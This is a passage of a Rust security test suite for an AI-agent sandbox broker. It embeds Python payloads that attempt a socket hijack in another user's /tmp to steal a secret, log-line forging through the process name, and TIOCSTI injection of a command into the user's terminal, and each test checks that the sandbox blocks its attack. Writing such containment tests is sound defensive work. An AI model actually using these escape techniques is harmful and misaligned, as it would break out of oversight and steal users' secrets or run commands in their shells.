    let python = agent_python().to_string_lossy().into_owned();
    let argv = as_uid(UID, &bin("brokerctl"));
    let holder_name = format!("{}-flood", w.agent);
    let mut cmd = Command::new(&argv[0]);
    cmd.args(&argv[1..])
        .env_clear()
        .env(
            "PATH",
            std::env::var("PATH").unwrap_or_else(|_| "/usr/local/bin:/usr/bin:/bin".into()),
        )
        .arg("--run-dir")
        .arg(w.broker.run_dir())
        .args(["run", "--unprivileged", "--as", &holder_name, "--"])
        .args([python.as_str(), "-c", HOLD_PY, "6000", "25"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut holder = cmd
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start the holder: {e}"));
    // Give it time to open its connections.
    thread::sleep(Duration::from_secs(8));
    let started = std::time::Instant::now();
    let status = w.broker.status();
    let status_took = started.elapsed();
    let (run, report) =
        agent_broker_tests::clients::curl(&w.broker, &w.agent, &w.trust(), &w.call("/hash"));
    let _ = holder.kill();
    let out = holder.wait_with_output().ok();
    eprintln!(
        "holder: {:?}; status took {status_took:?}; workloads {}",
        out.as_ref()
            .map(|o| String::from_utf8_lossy(&o.stdout).into_owned()),
        status.workloads.len()
    );
    if report.status != 200 {
        for r in w.broker.audit_records() {
            if r.cgroup.as_deref() == Some(w.agent.as_str())
                || r.reason.as_deref().is_some_and(|x| x.contains("refused"))
            {
                eprintln!("record: {:?} {:?} {:?}", r.cgroup, r.kind, r.reason);
            }
        }
    }
    w.assert_injected("curl while another sandbox floods brokerd", &run, &report);
    assert!(
        status_took < Duration::from_secs(5),
        "the control socket answered in {status_took:?}"
    );
}

/// Another local user, victim of the agent's planted run directory.
const VICTIM_UID: u32 = 65532;

/// Inside the sandbox: makes `<argv[1]>` (another user's default run directory) with a
/// `control.sock` anyone may connect to, writes `<argv[2]>` when ready, and keeps in
/// `<argv[3]>` the SHA-256 of what the first client sends (never the bytes), or "none".
const PLANT_PY: &str = r#"
import hashlib, json, os, socket, sys
run, ready, record = sys.argv[1], sys.argv[2], sys.argv[3]
try:
    os.mkdir(run, 0o755)
    os.chmod(run, 0o755)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(os.path.join(run, "control.sock"))
    os.chmod(os.path.join(run, "control.sock"), 0o777)
    s.listen(1)
    s.settimeout(30)
except OSError as e:
    print(json.dumps({"plant": e.strerror}), flush=True)
    open(ready, "w").close()
    sys.exit(0)
open(ready, "w").close()
print(json.dumps({"plant": "ok"}), flush=True)
data = b""
try:
    c, _ = s.accept()
    c.settimeout(3)
    while True:
        b = c.recv(65536)
        if not b:
            break
        data += b
except OSError:
    pass
with open(record, "w") as f:
    f.write(json.dumps({"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest(),
                        "secret_set_with_value": b'"secret_set"' in data and b'"value":"' in data}))
"#;

/// Break: the sandbox's /tmp is the host's (Landlock lets the agent write there), so the agent
/// can create another user's default run directory (`/tmp/agent-broker-UID`, used when
/// `XDG_RUNTIME_DIR` is unset) with a control socket of its own; that user's `brokerctl secret
/// set` then sends the secret to the agent. (The same works against the agent's own user's
/// `/tmp/agent-broker-UID` when its brokerd uses `$XDG_RUNTIME_DIR`, where a peer-uid check
/// cannot help: the sandbox needs a private /tmp or a mask over `/tmp/agent-broker-*`.)
#[test]
fn the_agent_cannot_plant_another_users_run_directory_in_tmp() {
    let w = World::unprivileged(UID);
    let run = PathBuf::from(format!("/tmp/agent-broker-{VICTIM_UID}"));
    assert!(
        !run.exists(),
        "{} exists already; this test needs it absent",
        run.display()
    );
    struct Cleanup(PathBuf);
    impl Drop for Cleanup {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.0);
        }
    }
    let _cleanup = Cleanup(run.clone());
    let scratch = w.broker.scratch_dir();
    let ready = scratch.join(format!("plant-ready-{}", std::process::id()));
    let record = scratch.join(format!("plant-record-{}", std::process::id()));
    let python = agent_python().to_string_lossy().into_owned();
    let argv = as_uid(UID, &bin("brokerctl"));
    let mut cmd = Command::new(&argv[0]);
    cmd.args(&argv[1..])
        .env_clear()
        .env(
            "PATH",
            std::env::var("PATH").unwrap_or_else(|_| "/usr/local/bin:/usr/bin:/bin".into()),
        )
        .arg("--run-dir")
        .arg(w.broker.run_dir())
        .args(["run", "--unprivileged", "--as", &w.agent, "--"])
        .args([python.as_str(), "-c", PLANT_PY])
        .args([&run, &ready, &record])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let agent = cmd
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start the agent: {e}"));
    let got_ready = poll_until(Duration::from_secs(30), || ready.exists().then_some(()));
    assert!(got_ready.is_some(), "the agent never got ready");
    // The victim, in a shell without XDG_RUNTIME_DIR, stores a secret with its brokerctl.
    let secret = Canary::new();
    let victim = as_uid(VICTIM_UID, &bin("brokerctl"));
    let mut child = Command::new(&victim[0])
        .args(&victim[1..])
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .args(["secret", "set", "ABTEST_VICTIM_KEY"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start the victim's brokerctl: {e}"));
    if let Some(mut stdin) = child.stdin.take() {
        let _ = std::io::Write::write_all(&mut stdin, secret.expose().as_bytes());
    }
    let victim_out = wait_with_timeout(child, Duration::from_secs(30), "the victim's brokerctl");
    let out = wait_with_timeout(agent, Duration::from_secs(60), "the planting agent");
    let planted = String::from_utf8_lossy(&out.stdout).into_owned();
    let got: serde_json::Value = fs::read_to_string(&record)
        .ok()
        .and_then(|s| serde_json::from_str(&s).ok())
        .unwrap_or(serde_json::Value::Null);
    let _ = fs::remove_file(&ready);
    let _ = fs::remove_file(&record);
    // /tmp is the host's (the agent's work may live there), so the agent can make the
    // directory; what must not happen is anyone talking to what it serves there. brokerctl
    // checks who serves a socket before it sends anything: another uid is not its brokerd.
    let stderr = String::from_utf8_lossy(&victim_out.stderr);
    secret.assert_absent(&victim_out.stderr, "the victim's brokerctl stderr");
    assert!(
        !victim_out.status.success() && stderr.contains("not this user's brokerd"),
        "the victim's brokerctl must refuse the planted socket and say why ({}): {stderr}",
        victim_out.status
    );
    assert!(
        got["bytes"].as_u64().unwrap_or(0) == 0
            && !got["secret_set_with_value"].as_bool().unwrap_or(false),
        "the planted socket in {} received {} bytes from the victim's brokerctl (a secret_set \
         request with the value: {}); planting: {planted}",
        run.display(),
        got["bytes"],
        got["secret_set_with_value"]
    );
}

/// Names itself (`PR_SET_NAME`) with a newline in the middle, then makes one request.
const COMM_PY: &str = r#"
import ctypes, socket
ctypes.CDLL(None).prctl(15, b"x\nFORGED-LINE", 0, 0, 0)
try:
    s = socket.create_connection(("192.0.2.10", 80), timeout=10)
    s.sendall(b"GET /comm HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    s.recv(100)
except Exception as e:
    print(type(e).__name__, flush=True)
"#;

/// Holds or breaks: brokerd's log names the sandbox's process by its command, which the agent
/// sets itself; a newline in it must not start a line of brokerd's log.
#[test]
fn the_agents_process_name_cannot_forge_a_brokerd_log_line() {
    let w = World::unprivileged(UID);
    let python = agent_python().to_string_lossy().into_owned();
    let run = run_in_cgroup(
        &w.broker,
        &w.agent,
        "comm forger",
        &[],
        &[python, "-c".into(), COMM_PY.into()],
    );
    thread::sleep(Duration::from_millis(500));
    let log = w.broker.log();
    let forged: Vec<&str> = log
        .lines()
        .filter(|l| l.starts_with("FORGED-LINE"))
        .collect();
    assert!(
        forged.is_empty(),
        "the agent's process name started lines of brokerd's log: {forged:?} ({})",
        run.show()
    );
}

/// As root: becomes a session leader with a fresh pty as its controlling terminal (the user's
/// terminal), runs argv[1:] (brokerctl run ... as the test user) on it, and once that exited
/// reads what is left in the terminal's input queue: what the user's shell would read and run
/// next. Prints JSON.
const PTY_HARNESS_PY: &str = r#"
import fcntl, json, os, select, subprocess, sys, termios, time
master, slave = os.openpty()
os.setsid()
fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
p = subprocess.Popen(sys.argv[1:], stdin=slave, stdout=slave, stderr=slave)
out = b""
deadline = time.monotonic() + 60
while p.poll() is None and time.monotonic() < deadline:
    r, _, _ = select.select([master], [], [], 0.2)
    if r:
        try:
            out += os.read(master, 4096)
        except OSError:
            break
if p.poll() is None:
    p.kill()
    p.wait()
os.set_blocking(slave, False)
pending = b""
try:
    pending = os.read(slave, 4096)
except OSError:
    pass
print(json.dumps({"status": p.returncode, "pending": pending.decode("latin-1"),
                  "output": out.decode("latin-1")[-500:]}), flush=True)
"#;

/// The agent: pushes a command into its terminal's input queue (TIOCSTI).
const TIOCSTI_PY: &str = r#"
import fcntl, termios
try:
    for c in b"echo ABTEST-INJECTED\n":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))
    print("tiocsti ok", flush=True)
except OSError as e:
    print("tiocsti", e.strerror, flush=True)
"#;

/// Break: the sandbox keeps the user's terminal as its controlling terminal and the seccomp
/// filter lets TIOCSTI through, so (where `dev.tty.legacy_tiocsti` is 1, as here) the agent
/// types a command into the user's shell, which runs it outside the sandbox once the agent
/// exits (the bubblewrap CVE-2017-5226 class). The sandbox needs `setsid()` (or a pty of its
/// own) and a seccomp rule refusing TIOCSTI and TIOCLINUX.
#[test]
fn the_agent_cannot_type_into_the_users_terminal() {
    let w = World::unprivileged(UID);
    let python = agent_python().to_string_lossy().into_owned();
    let brokerctl = as_uid(UID, &bin("brokerctl"));
    let run_dir = w.broker.run_dir().to_string_lossy().into_owned();
    let mut cmd = Command::new(&python);
    cmd.arg("-c")
        .arg(PTY_HARNESS_PY)
        .args(&brokerctl)
        .args([
            "--run-dir",
            &run_dir,
            "run",
            "--unprivileged",
            "--as",
            &w.agent,
            "--",
        ])
        .args([python.as_str(), "-c", TIOCSTI_PY])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = cmd
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start the pty harness: {e}"));
    let out = wait_with_timeout(child, Duration::from_secs(90), "the pty harness");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let report: serde_json::Value = stdout
        .lines()
        .rev()
        .find_map(|l| serde_json::from_str(l).ok())
        .unwrap_or_else(|| {
            panic!(
                "no JSON from the pty harness: {stdout}\n{}",
                String::from_utf8_lossy(&out.stderr)
            )
        });
    let pending = report["pending"].as_str().unwrap_or("");
    assert!(
        !pending.contains("ABTEST-INJECTED"),
        "the sandboxed agent typed {pending:?} into the user's terminal (the shell would run it \
         outside the sandbox): {report}"
    );
}
